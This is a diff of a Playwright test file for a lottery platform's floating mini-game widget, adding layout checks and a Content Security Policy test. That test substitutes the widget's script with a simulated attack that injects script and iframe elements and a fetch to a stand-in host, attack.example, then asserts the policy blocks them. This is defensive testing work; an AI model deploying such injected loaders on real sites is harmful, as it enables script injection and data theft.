@@ -1,8 +1,11 @@
 /** The mini-game, a widget of the operator's own platform that floats above the screens. */
+
 import type { Locator, Page } from '@playwright/test'
 import type { SandboxClient } from '../support/sandbox.ts'
 import type { Texts } from '../support/texts.ts'
-import { logIn, openHome, stopClock, untilQuiet } from './actions.ts'
+import { untilQuiet } from '../support/until-quiet.ts'
+import { goWithin } from './account-openings.ts'
+import { logIn, openHome, stopClock } from './actions.ts'
 import { expectUsable, showWhole } from './expect-accessible.ts'
 import { expect, overlay, screen, test } from './fixtures.ts'
 import { onceAt } from './one-brand.ts'
@@ -39,6 +42,29 @@ onceAt('lotus')('the mini-game', () => {
     await expectUsable(page)
   })
 
+  test('is held by the policy of the page: its script loads, sends and frames nothing foreign', async ({
+    page,
+    texts,
+    expectedErrors,
+  }) => {
+    expectedErrors.push(/Content Security Policy|attack\.example|mini-game/)
+    const sent: string[] = []
+    await page.route('https://attack.example/**', route => {
+      sent.push(route.request().url())
+      return route.fulfill({ body: '' })
+    })
+    await page.route(`**${v1}*`, route =>
+      route.fulfill({ contentType: 'text/javascript', body: `(${attack})()` }),
+    )
+    const fetched = page.waitForRequest(`**${v1}*`)
+    await logIn(page, texts)
+    await fetched
+    await expect
+      .poll(() => page.evaluate(() => document.documentElement.dataset.refused?.split(' ').sort()))
+      .toEqual(['connect-src', 'frame-src', 'script-src', 'script-src-elem'])
+    expect(sent).toEqual([])
+  })
+
   for (const [title, LOTTMINIGAME3, SEALOTTMINIGAME3, script] of [
     ['is v1 with LOTTMINIGAME3 [SYSTEM-02, CALL-23]', true, false, v1],
     ['is s1 with SEALOTTMINIGAME3 [SYSTEM-02, CALL-23]', false, true, s1],
@@ -73,7 +99,7 @@ onceAt('lotus')('the mini-game', () => {
     texts,
   }) => {
     await logIn(page, texts)
-    const from = await readPlace(widget(page))
+    const from = await readRest(page)
     await drag(page, handle(page, texts), 1, 0)
     await expect(panel(page)).toBeVisible()
     expect(await readPlace(widget(page))).toEqual(from)
@@ -129,8 +155,17 @@ onceAt('lotus')('the mini-game', () => {
     await expectEdges(page, { right: 6.4 })
   })
 
-  test('never covers the tab bar, and is gone while a sheet is open', async ({ page, texts }) => {
+  test('is never below the tab bar or the shortcut of home, and is gone while a sheet is open or a payment is made', async ({
+    page,
+    texts,
+  }) => {
     await logIn(page, texts)
+    await readRest(page)
+    await drag(page, handle(page, texts), 0, 900)
+    expect(await isAboveShortcut(page)).toBe(true)
+    await overlay(page, 'activity-shortcut')
+      .getByRole('button', { name: texts('close') })
+      .click()
     await drag(page, handle(page, texts), 0, 900)
     const bar = await page.getByRole('navigation', { name: texts('main_navigation') }).boundingBox()
     const box = await widget(page).boundingBox()
@@ -140,11 +175,16 @@ onceAt('lotus')('the mini-game', () => {
     await expect(widget(page)).toBeHidden()
     await page.keyboard.press('Escape')
     await expect(widget(page)).toBeVisible()
+    await goWithin(page, '/m/withdraw')
+    await expect(screen(page, 'withdraw')).toBeVisible()
+    await expect(widget(page)).toBeHidden()
+    await page.goBack()
+    await expect(widget(page)).toBeVisible()
   })
 
   test('is moved by the arrow keys, and tapped by Enter and Space', async ({ page, texts }) => {
     await logIn(page, texts)
-    const from = await readPlace(widget(page))
+    const from = await readRest(page)
     await handle(page, texts).focus()
     for (const key of ['ArrowRight', 'ArrowRight', 'ArrowUp', 'ArrowLeft']) {
       await page.keyboard.press(key)
@@ -211,6 +251,18 @@ async function drag(page: Page, element: Locator, right: number, down: number): 
   await page.mouse.up()
 }
 
+/** Its place once the shortcut of home has come, which raises it. */
+async function readRest(page: Page): Promise<{ left: number; bottom: number }> {
+  await expect.poll(() => isAboveShortcut(page)).toBe(true)
+  return readPlace(widget(page))
+}
+
+async function isAboveShortcut(page: Page): Promise<boolean> {
+  const dock = await overlay(page, 'activity-shortcut').boundingBox()
+  const box = await widget(page).boundingBox()
+  return box !== null && dock !== null && box.y + box.height <= dock.y
+}
+
 function readPlace(element: Locator): Promise<{ left: number; bottom: number }> {
   return element.evaluate(node => {
     const { left, bottom } = node.getBoundingClientRect()
@@ -229,4 +281,24 @@ async function readEdges(page: Page): Promise<{ right: number; top: number }> {
 
 async function expectEdges(page: Page, edges: { right: number; top?: number }): Promise<void> {
   await expect.poll(() => readEdges(page)).toMatchObject(edges)
+}
+
+/** Runs in the page, as the script of the mini-game would. */
+function attack(): void {
+  const refused: string[] = []
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+    refused.push(effectiveDirective)
+    document.documentElement.dataset.refused = refused.join(' ')
+  })
+  const origin = 'https://attack.example'
+  for (const name of ['script', 'iframe'] as const) {
+    document.body.append(Object.assign(document.createElement(name), { src: `${origin}/${name}` }))
+  }
+  fetch(origin, { mode: 'no-cors' }).catch(() => undefined)
+  // The policy throws in place of a run.
+  try {
+    new Function('return 1')()
+  } catch {
+    // Told by its event.
+  }
 }
